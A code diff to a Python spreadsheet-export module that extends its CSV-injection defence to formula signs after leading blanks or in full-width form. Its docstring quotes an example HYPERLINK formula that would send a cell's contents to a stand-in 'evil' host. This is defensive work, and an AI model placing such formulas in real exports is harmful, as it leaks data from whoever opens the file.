@@ -3,7 +3,8 @@
 A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, one that begins
 with a tab, a carriage return, a line feed or NUL) as a formula: a name such as ``=HYPERLINK("http://evil/?"&B2,"x")``
 typed by an applicant or an anonymous complainant would run on the verifier's or the complaint officer's computer
-when they open the export. Following OWASP's CSV-injection guidance and ASVS 5 (1.2.10), such a *text* cell is
+when they open the export. The same holds when the sign follows spaces or tabs (``" =1+1"``: spreadsheets skip
+them) or is a full-width form (``＝``, ``＋``, ``－``, ``＠``). Following OWASP's CSV-injection guidance and ASVS 5 (1.2.10), such a *text* cell is
 written with a leading single quote, in CSV and XLSX alike, so that the text stays readable and nothing is evaluated.
 Real numbers (``int``, ``float``, ``Decimal``) stay numbers: ``-3`` is data, the text ``"-1+2"`` is not.
 
@@ -24,6 +25,7 @@ import decimal
 import itertools
 import re
 import tempfile
+import unicodedata
 from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import dataclass
 from typing import Any
@@ -40,6 +42,7 @@ XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 # feed is treated like the carriage return it often travels with).
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
 QUOTE = "'"
+SIGNS = ("=", "+", "-", "@")  # after blanks, or as their full-width (compatibility) forms: ＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫
 
 CSV_DATE = "%Y-%m-%d"
 CSV_DATETIME = "%Y-%m-%d %H:%M"
@@ -65,8 +68,17 @@ class Sheet:
 
 
 def neutralise(text: str) -> str:
-    """``text`` as a spreadsheet shows it and never evaluates it: a leading quote when it could start a formula."""
-    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text
+    """``text`` as a spreadsheet shows it and never evaluates it: a leading quote when it could start a formula,
+    also when the sign comes after blanks (``" =1+1"``: spreadsheets skip them) or in its full-width form
+    (``＝1+1``, which spreadsheets with East Asian input read as ``=``)."""
+    if not text or text.startswith(FORMULA_TRIGGERS):
+        return QUOTE + text if text else text
+    first = text[0]
+    if first.isspace() or first > "\x7f":  # rare: plain ASCII letters and digits leave at once
+        rest = text.lstrip()
+        if rest and (rest.startswith(FORMULA_TRIGGERS) or unicodedata.normalize("NFKC", rest[0]) in SIGNS):
+            return QUOTE + text
+    return text
 
 
 def local(value: datetime.datetime) -> datetime.datetime:
